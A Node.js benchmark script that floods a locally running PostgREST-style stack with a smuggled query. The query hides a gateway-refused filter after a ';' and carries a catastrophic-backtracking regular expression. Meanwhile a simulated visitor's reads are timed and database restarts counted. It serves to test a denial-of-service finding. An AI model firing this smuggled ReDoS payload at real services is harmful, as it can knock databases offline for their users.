#!/usr/bin/env node
// A filter the gateway refuses, smuggled after a ';' (PostgREST splits a query string on ';' as well
// as '&'), sent in loops against a running stack while a visitor reads the reviews once every 200 ms.
// Prints how the visitor's reads were answered and how often the database had to be restarted.
//   node packages/local-stack/bench/query-smuggling.mjs [--url http://127.0.0.1:54321] [--loops 3] [--seconds 20]
//     [--query 'select=id&note=gt.0;message=imatch.…']
import { DEFAULT_PORT, localKeys } from '../src/config.mjs'

const arg = (name, fallback) => {
  const i = process.argv.indexOf(name)
  return i >= 0 ? process.argv[i + 1] : fallback
}
const url = arg('--url', `http://127.0.0.1:${process.env.LOCAL_STACK_PORT || DEFAULT_PORT}`).replace(/\/+$/, '')
const loops = Number(arg('--loops', 3))
const seconds = Number(arg('--seconds', 20))
// The regular expression of the earlier finding (README, "A query that freezes PGlite").
const query = arg('--query', `select=id&note=gt.0;message=imatch.${encodeURIComponent('(.{1,255}){1,255}(.{1,255}){1,255}x')}`)
const headers = { apikey: localKeys().anonKey }

const health = async () => {
  try {
    return await (await fetch(`${url}/__health`, { signal: AbortSignal.timeout(5000) })).json()
  } catch {
    return null
  }
}
const tally = (list) => list.reduce((acc, s) => ({ ...acc, [s]: (acc[s] ?? 0) + 1 }), {})
const get = async (q) => {
  try {
    const res = await fetch(`${url}/rest/v1/avis?${q}`, { headers, signal: AbortSignal.timeout(30_000) })
    await res.arrayBuffer()
    return res.status
  } catch {
    return 0
  }
}

const before = await health()
if (!before) {
  console.error(`No stack answers at ${url}`)
  process.exit(1)
}
const deadline = Date.now() + seconds * 1000
const attack = []
const reads = []
await Promise.all([
  ...Array.from({ length: loops }, async () => {
    while (Date.now() < deadline) attack.push(await get(query))
  }),
  (async () => {
    while (Date.now() < deadline) {
      reads.push(await get('select=id&limit=1'))
      await new Promise((resolve) => setTimeout(resolve, 200))
    }
  })(),
])
const after = await health()
const failed = reads.filter((s) => s >= 500 || s === 0).length
console.log(`query: ${query}`)
console.log(`${loops} loop(s) for ${seconds} s: attacker answers ${JSON.stringify(tally(attack))}`)
console.log(
  `visitor reads: ${reads.length}, answers ${JSON.stringify(tally(reads))}, ${((100 * failed) / Math.max(1, reads.length)).toFixed(1)} % failed (5xx or none)`,
)
if (before.databaseRestarts !== undefined && after?.databaseRestarts !== undefined) {
  console.log(`database restarts during the run: ${after.databaseRestarts - before.databaseRestarts}`)
} else console.log('database restarts: count the "database: … reopening it" and "restarting it" lines in the stack\'s log')
